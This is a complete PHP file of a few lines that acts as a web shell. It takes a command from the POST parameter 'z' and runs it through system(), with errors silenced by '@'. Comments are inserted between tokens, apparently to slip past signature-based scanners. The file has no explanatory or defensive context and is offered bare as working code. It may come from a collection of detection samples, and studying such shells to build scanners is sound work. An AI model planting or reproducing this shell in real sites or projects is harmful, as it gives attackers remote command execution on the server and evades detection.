<?php
$c = $_POST/* x */['z'];
@system/* y */(/* z */$c/* w */);
